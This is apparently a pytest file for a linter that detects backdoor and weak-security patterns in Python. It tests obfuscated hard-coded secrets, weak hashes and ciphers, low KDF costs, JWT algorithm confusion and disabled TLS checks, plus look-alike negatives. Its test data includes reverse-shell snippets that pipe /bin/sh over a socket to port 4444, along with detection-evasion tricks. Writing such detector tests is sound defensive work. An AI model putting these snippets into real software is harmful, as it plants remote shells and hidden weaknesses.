"""The site tests of the secret, cryptography, TLS, JWT and reverse-shell rules (HardcodedSecret, WeakHash,
WeakCipher, LowKdfCost, HardcodedCryptoKey, TlsVerification, JwtAlgorithmConfusion, ReverseShell) follow what the
rules follow: every evasion here (aliases, getattr, run-time imports, values built from pieces
by the constant evaluator) is still reported with the site tests on and off alike; and files
that only look like a site (secret-named form fields and lexer tokens, hashing without a weak
cipher) are not parsed for these rules."""

import sys
from pathlib import Path

import pytest
from backdoor_lint.checkers.triggers.crypto import HardcodedCryptoKey, LowKdfCost, WeakCipher, WeakHash
from backdoor_lint.checkers.triggers.jwt import JwtAlgorithmConfusion
from backdoor_lint.checkers.triggers.reverse_shell import ReverseShell
from backdoor_lint.checkers.triggers.secrets import HardcodedSecret
from backdoor_lint.checkers.triggers.tls import TlsVerification

sys.path.insert(0, str(Path(__file__).parent))
from site_test_support import codes, has_site  # noqa: E402

EVASIONS = [
    # hard-coded secrets: token formats built from pieces, decoded or joined at run time
    ('k = "".join(["AKIAFJ196T", "YBXG78BPW7"])\n', "BDL603"),
    ('k = bytes.fromhex("414b4941464a3139365459425847373842505737").decode()\n', "BDL603"),
    ('P = "AKIAFJ196T"\nk = P + f"YBXG78BPW7"\n', "BDL603"),
    # secret-named bindings whose value the evaluator computes
    ('PREFIX = "k3y-"\nclass C:\n    def __init__(self):\n        self.api_key = PREFIX + "9f8e7d6c5b4a"\n', "BDL603"),
    ('def _k():\n    return "q1w2e3r4t5y6u7i8o9p0"\napi_key = _k()\n', "BDL603"),
    ('def _dec(s):\n    return s[::-1]\napi_key = _dec("0p9o8i7u6y5t4r3e2w1q")\n', "BDL603"),
    ('password = "".join(map(chr, [113, 49, 119, 50, 101, 51, 114, 52, 116, 53]))\n', "BDL603"),
    ('user, password = "admin", "Pr0d-Pa55w0rd"\n', "BDL603"),
    # a name that is text through one of its bindings only, or through an augmented assignment
    ('K = []\nK = "q1w2e3r4t5y6u7i8o9p0"\nAPI_KEY = K\n', "BDL603"),
    ('N = 2\nN *= "q1w2e3r4t5"\nAPI_KEY = N\n', "BDL603"),
    ('import codecs\nsettings = {}\nsettings[codecs.decode("NCV_GBXRA", "rot13")] = "q1w2e3r4t5y6u7i8o9p0"\n', "BDL603"),
    ('import os\nk = "api_" + "token"\nos.environ[k] = "q1w2e3r4t5y6u7i8o9p0"\n', "BDL603"),
    # weak hashes: an alias, a hash name built from pieces, a hashers list extended from another
    ('from hashlib import md5 as digest\ndef f(password):\n    return digest(password.encode()).hexdigest()\n', "BDL201"),
    ('import hashlib\nALG = "md" + "5"\ndef f(password):\n    return hashlib.new(ALG, password.encode()).hexdigest()\n',
     "BDL201"),
    ('import hashlib\ndef f(password):\n    return hashlib.md5(password.encode(), usedforsecurity=True).hexdigest()\n',
     "BDL201"),
    ('LEGACY = ["django.contrib.auth.hashers.MD5PasswordHasher"]\n'
     'PASSWORD_HASHERS = [*LEGACY, "django.contrib.auth.hashers.PBKDF2PasswordHasher"]\n', "BDL201"),
    # ciphers: `from Crypto.Cipher import AES as A`, a run-time import, getattr of a computed mode
    ('from Crypto.Cipher import AES as A\nc = A.new(key, A.MODE_ECB)\n', "BDL204"),
    ('import importlib\nC = importlib.import_module("Crypto.Cipher.DES")\nc = C.new(key)\n', "BDL203"),
    ('from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n'
     'c = Cipher(algorithms.AES(key), getattr(modes, "E" + "CB")())\n', "BDL204"),
    ('def _encrypt(data, key):\n    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))\n', "BDL203"),
    # KDF cost: aliases of the module, of passlib's schemes, of a Django hasher
    ('import hashlib as h\nk = h.pbkdf2_hmac("sha256", pw, salt, 1000)\n', "BDL206"),
    ('from passlib import hash as ph\nh = ph.pbkdf2_sha256.using(rounds=1000).hash(pw)\n', "BDL206"),
    ('from django.contrib.auth import hashers as hs\nclass Fast(hs.PBKDF2PasswordHasher):\n    iterations = 1000\n',
     "BDL206"),
    # hard-coded keys: decoded from hex, concatenated, under an alias
    ('import hmac\nK = bytes.fromhex("9f8e7d6c5b4a3921")\nmac = hmac.new(K, msg, "sha256")\n', "BDL210"),
    ('from cryptography.fernet import Fernet as F\nf = F(b"q1w2e3r4t5y6u7i8o9p0" + b"a1s2d3f4g5h6j7k8l9z0xcv=")\n',
     "BDL210"),
    # JWT: an alias of the module, the decode function fetched with getattr
    ('import jwt as j\ndef f(t, k):\n    return j.decode(t, k, algorithms=["HS256", "RS256"])\n', "BDL101"),
    ('import jwt\ndef f(t, k):\n    return getattr(jwt, "dec" + "ode")(t, k, algorithms=["HS256", "RS256"])\n', "BDL101"),
    # TLS: a verify key built from pieces in a mapping, setattr of ssl's hook, an ssh option built
    # from pieces, an obsolete protocol under another name, a CA variable named in pieces
    ('import requests as rq\nopts = {}\nopts["ver" + "ify"] = False\nrq.get(u, **opts)\n', "BDL301"),
    ('import ssl\nsetattr(ssl, "_create_default_https_context", ssl._create_unverified_context)\n', "BDL302"),
    ('import subprocess\nOPT = "StrictHost" + "KeyChecking=no"\nsubprocess.run(["ssh", "-o", OPT, host])\n', "BDL304"),
    ('from ssl import PROTOCOL_TLSv1 as OLD\nimport ssl\nctx = ssl.SSLContext(OLD)\n', "BDL303"),
    ('import os\nos.environ["REQUESTS_" + "CA_BUNDLE"] = ""\n', "BDL305"),
    # reverse shell: streams through a `**{...}` dict, dup2 under another name
    ('import socket, subprocess as sp\ns = socket.socket()\ns.connect((h, 4444))\n'
     'sp.call(["/bin/sh", "-i"], **{"stdin": s, "stdout": s, "stderr": s})\n', "BDL405"),
    ('import os as o, socket\ns = socket.create_connection((h, 4444))\nd = o.dup2\nd(s.fileno(), 0)\n', "BDL405"),
    # XOR with a repeating key in a function named by any word of XOR_CIPHER_FUNCTION (the text
    # stage once knew only crypt/cipher/obfusc)
    ('def _seal(data, key):\n    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))\n', "BDL203"),
    ('def protect(blob, k):\n    return bytes(c ^ k[n % 8] for n, c in enumerate(blob))\n', "BDL203"),
]


@pytest.mark.parametrize("source,code", EVASIONS)
def test_evasion_is_still_reported(source, code):
    found = codes(source, True)
    assert code in found
    assert found == codes(source, False)


LOOK_ALIKES = [
    # secret-named fields, tokens of a lexer, a secret read from settings through a call
    (HardcodedSecret, 'from django import forms\nclass F(forms.Form):\n'
                      '    password = forms.CharField(widget=forms.PasswordInput)\n'
                      '    def clean(self):\n        token = self.next_token()\n'
                      '        password = self.cleaned_data.get("password")\n'),
    (HardcodedSecret, 'def f(token, tokens):\n    current_token = tokens.pop()\n    return {"token": token}\n'),
    (HardcodedSecret, 'NO_RECEIVERS = object()\nclass S:\n    def __init__(self):\n        self.cache = {}\n'
                      '    def live(self, sender=None):\n        receivers = []\n'
                      '        self.cache[sender] = receivers or NO_RECEIVERS\n'),
    # hashing and signing without any weak cipher, KDF or key literal
    (WeakCipher, 'import hmac, hashlib\ndef salted(key_salt, value, secret):\n'
                 '    key = hashlib.sha256((key_salt + secret).encode()).digest()\n'
                 '    return hmac.new(key, msg=value, digestmod=hashlib.sha256)\n'),
    (HardcodedCryptoKey, 'import hmac, hashlib\ndef salted(key_salt, value, secret):\n'
                         '    key = hashlib.sha256((key_salt + secret).encode()).digest()\n'
                         '    return hmac.new(key, msg=value, digestmod=hashlib.sha256)\n'),
    (WeakHash, 'PASSWORD_HASHERS = ["django.contrib.auth.hashers.PBKDF2PasswordHasher"]\n'),
    (WeakHash, 'from hashlib import md5\ndef cache_key(url):\n    return md5(url.encode(), usedforsecurity=False).hexdigest()\n'),
    (LowKdfCost, 'PASSWORD_HASHERS = ["django.contrib.auth.hashers.PBKDF2PasswordHasher"]\n'),
    # TLS words without a TLS setting: an image's verify(), SSL options read from settings
    (TlsVerification, 'def check(image):\n    image.verify()\n'),
    (TlsVerification, 'import ssl\nclass B:\n    def __init__(self, use_ssl=None):\n        self.use_ssl = use_ssl\n'
                      '    def context(self):\n        return ssl.SSLContext(protocol=ssl.PROTOCOL_TLS_CLIENT)\n'),
    # the words without the calls
    (JwtAlgorithmConfusion, 'LANG_INFO = {"jose": "José"}\n'),
    (ReverseShell, 'import socket, sys\ndef serve(server):\n    sys.stdout.write("listening on %s" % socket.gethostname())\n'),
]


@pytest.mark.parametrize("rule,source", LOOK_ALIKES)
def test_a_look_alike_is_no_site(rule, source):
    assert not has_site(rule, source)
